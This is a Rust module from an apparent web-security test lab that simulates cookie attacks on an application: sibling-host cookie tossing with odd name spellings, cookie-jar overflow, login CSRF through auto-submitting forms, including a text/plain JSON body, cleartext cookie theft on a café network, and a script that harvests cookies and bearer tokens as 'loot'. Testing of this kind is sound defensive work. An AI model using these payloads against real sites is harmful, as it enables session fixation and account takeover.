//! Cookies that somebody else sets: a sibling host (C6, C7), a log-in that the victim did not ask for (C8), and the network
//! (N1). A cookie says neither who set it nor for which host (RFC 6265 8.6).

use anyhow::Result;
use cloakroom_lab_report::{Actor, Verdict};
use serde_json::{Value, json};

use super::login::{Carried, credentials_elsewhere, log_in_path};
use super::persists::comes_back;
use crate::redeem::{Loot, opens};
use crate::scene::{Outcome, Scene};
use crate::world::{PASSWORD, Seen, Served};

/// Cookies with which a sibling fills the jar.
const FLOOD: usize = 200;

/// C6: a sibling plants the attacker's own credential, before the victim's and beside it, in every spelling.
pub(super) async fn tossing(scene: &mut Scene<'_>) -> Result<Outcome> {
    if !scene.uses_cookies() {
        return Ok((Verdict::Na, "no request of the honest use carried a cookie".to_owned()));
    }
    let Some(carried) = credentials_elsewhere(scene, &scene.thief.clone()).await? else {
        return Ok((Verdict::Na, "a log-in from another machine gives nothing that could be planted".to_owned()));
    };
    let mut worst = (Verdict::Safe, String::new());
    for odd in [false, true] {
        scene.world.sibling.put("/nice", planting(&carried, &scene.world.names.site(), odd));
        scene.page.goto(&scene.sibling("/nice")).await?;
        let how = if odd { "in every odd spelling" } else { "by its name" };
        scene.step(
            Actor::Attacker,
            format!("a sibling sets his own credential as cookies for the whole site, {how}"),
            "",
        );
        let outcome = comes_back(scene).await?;
        if outcome.0 >= worst.0 {
            worst = outcome;
        }
        if worst.0 == Verdict::Fixate {
            break;
        }
        if worst.0 != Verdict::Safe && !odd {
            scene.begin_again().await?;
        }
    }
    Ok(worst)
}

fn planting(carried: &Carried, domain: &str, odd: bool) -> Served {
    let mut page = Served::page("<!doctype html><title>A nice blog</title><p>Hello.");
    for (name, value) in &carried.cookies {
        let bare = name.trim_start_matches("__Host-").trim_start_matches("Http-").trim_start_matches("__Secure-");
        let spellings = if odd {
            vec![bare.to_owned(), format!("\u{2000}{name}"), format!("\"{name}\""), format!("__Host-{bare}")]
        } else {
            vec![name.clone()]
        };
        for path in ["/api", "/api/transfer", "/api/refresh", "/auth", "/auth/refresh", "/refresh", "/"] {
            for spelling in &spellings {
                page = page
                    .with("set-cookie", &format!("{spelling}={value}; Domain={domain}; Path={path}; Secure; HttpOnly"));
            }
        }
    }
    page
}

/// C7: a sibling fills the jar until the victim's cookie falls out of it.
pub(super) async fn overflow(scene: &mut Scene<'_>) -> Result<Outcome> {
    if !scene.uses_cookies() {
        return Ok((Verdict::Na, "no request of the honest use carried a cookie".to_owned()));
    }
    let site = scene.world.names.site();
    let mut page = Served::page("<!doctype html><title>A nice blog</title><p>Hello.");
    for number in 0..FLOOD {
        page = page.with("set-cookie", &format!("flood{number}={}; Domain={site}; Path=/; Secure", "x".repeat(60)));
    }
    scene.world.sibling.put("/flood", page);
    scene.page.goto(&scene.sibling("/flood")).await?;
    scene.step(Actor::Attacker, format!("a sibling sets {FLOOD} cookies for the whole site"), "");
    let outcome = comes_back(scene).await?;
    let kept_all = |seen: &Seen| {
        let sent = seen.headers.get_all("cookie").iter().filter_map(|line| line.to_str().ok());
        sent.flat_map(|line| line.split("; ")).filter(|pair| pair.starts_with("flood")).count() == FLOOD
    };
    if outcome.0 == Verdict::Safe && !scene.sent_to_app(kept_all).is_empty() {
        let why = format!("nothing falls out of this browser's jar: all {FLOOD} were sent beside the victim's own");
        return Ok((Verdict::Na, why));
    }
    Ok(outcome)
}

/// C8: another site logs the victim's browser in as the attacker.
pub(super) async fn login_csrf(scene: &mut Scene<'_>) -> Result<Outcome> {
    let action = scene.app(log_in_path(scene.row));
    let email = &scene.thief.email;
    let pages = [
        format!(
            "<form id=f method=post action=\"{action}\"><input name=email value=\"{email}\"><input name=password value=\"{PASSWORD}\"></form><script>f.submit()</script>"
        ),
        format!(
            "<form id=f method=post enctype=text/plain action=\"{action}\"><input name='{{\"email\":\"{email}\",\"password\":\"{PASSWORD}\",\"x\":\"' value='\"}}'></form><script>f.submit()</script>"
        ),
    ];
    let mut worst: Outcome =
        (Verdict::Safe, "no way of another site to log the victim in as somebody else worked".to_owned());
    for page in pages {
        scene.world.evil.put("/offer", Served::page(format!("<!doctype html><title>Great offers</title>{page}")));
        let tab = scene.context.page().await?;
        let mark = scene.world.wire.mark();
        let host = scene.host();
        let path = log_in_path(scene.row);
        let address = scene.evil("/offer");
        let (went, came) = tokio::join!(
            tab.goto(&address),
            scene.world.wire.wait(mark, path, |seen| seen.host.starts_with(&host) && seen.path.starts_with(path))
        );
        drop(went);
        scene.step(
            Actor::Attacker,
            "a form on another site logs in as the attacker",
            format!("answered {}", came?.status),
        );
        drop(tab.close().await);
        let (verdict, why) = comes_back(scene).await?;
        if verdict > worst.0 {
            worst = (verdict, why);
        }
        if verdict == Verdict::Fixate {
            break;
        }
    }
    Ok(worst)
}

/// N1: a café network. The victim types the address without https; whatever comes in clear is the attacker's, and whatever
/// he answers is believed.
pub(super) async fn in_clear(scene: &mut Scene<'_>) -> Result<Outcome> {
    let carried = credentials_elsewhere(scene, &scene.thief.clone()).await?.unwrap_or_default();
    let clear = scene.app("/").replacen("https:", "http:", 1);
    let cousin = scene.sibling("/").replacen("https:", "http:", 1);
    let mut page = Served::page("<!doctype html><title>Welcome to our network</title><p>Hello.");
    for (name, value) in &carried.cookies {
        for attributes in
            ["Path=/".to_owned(), "Path=/api".to_owned(), format!("Path=/; Domain={}", scene.world.names.site())]
        {
            page = page.with("set-cookie", &format!("{name}={value}; {attributes}"));
        }
    }
    scene.world.network.put("/", page);
    // An address that cannot be reached in clear is an answer as well: the browser went to https by itself.
    for address in [&clear, &cousin] {
        let came = scene.page.goto(address).await;
        let outcome =
            came.map_or_else(|error| crate::world::cut(&format!("{error:#}")), |at| format!("arrives at {at}"));
        scene.step(Actor::Victim, format!("types {address}"), outcome);
    }
    let stolen = scene.world.wire.since(scene.mark, |seen| seen.scheme == "http" && !seen.header("cookie").is_empty());
    for seen in &stolen {
        let jar = seen.header("cookie").to_owned();
        if opens(scene, &[("cookie", &jar)]).await? {
            scene.step(Actor::Attacker, "uses the cookies that came in clear", "they open the victim's profile");
            return Ok((
                Verdict::Leak,
                "a credential travelled in clear, and opens the account on another machine".to_owned(),
            ));
        }
    }
    let clear_requests = scene.world.wire.since(scene.mark, |seen| seen.scheme == "http").len();
    let (verdict, why) = comes_back(scene).await?;
    Ok(match verdict {
        Verdict::Fixate => (verdict, format!("the network planted its own credential over http: {why}")),
        Verdict::Safe if clear_requests == 0 => {
            (verdict, "the browser went to https by itself (HSTS); nothing travelled in clear".to_owned())
        }
        _ => (
            verdict,
            format!("{clear_requests} requests travelled in clear, without a credential that opens anything; {why}"),
        ),
    })
}

/// What the borrowed laptop gives: everything that developer tools show.
pub(super) async fn developer_tools(scene: &Scene<'_>) -> Result<Loot> {
    let cookies = scene.context.cookies().await?;
    let host = scene.host();
    let site = scene.world.names.site();
    let cookies = cookies
        .into_iter()
        .filter(|cookie| {
            let domain = cookie.domain.trim_start_matches('.');
            domain == host || domain == site
        })
        .map(|cookie| (cookie.name, cookie.value));
    let mut cookies: Vec<(String, String)> = cookies.collect();
    // The panel of storage shows those of all paths; a driver may tell only those of the open document.
    for (name, value) in scene.cookies_set() {
        if !cookies.iter().any(|(known, _)| *known == name) {
            cookies.push((name, value));
        }
    }
    let harvest = format!(
        "(async () => {{ const all = []; const LOOT = ''; const send = (kind, value) => all.push(`${{kind}}:${{typeof value === 'string' ? value : JSON.stringify(value)}}`); \
         const attempt = async (kind, work) => {{ try {{ const value = await work(); if (value) send(kind, value); }} catch {{ }} }};\n{}\nawait harvest(); return all; }})()",
        super::payload::HARVEST
    );
    let texts = scene.page.eval(&harvest).await?;
    let texts = texts.as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned);
    // The network panel shows what the page has sent.
    let sent = scene.sent_to_app(|_| true);
    let bearers = sent.iter().map(|seen| seen.header("authorization").to_owned()).filter(|value| !value.is_empty());
    let told = json!(bearers.collect::<Vec<_>>()).to_string();
    let texts = texts.chain([told]).filter(|text| !text.starts_with("cookies:")).collect();
    Ok(Loot { texts, cookies, tries_all: false })
}
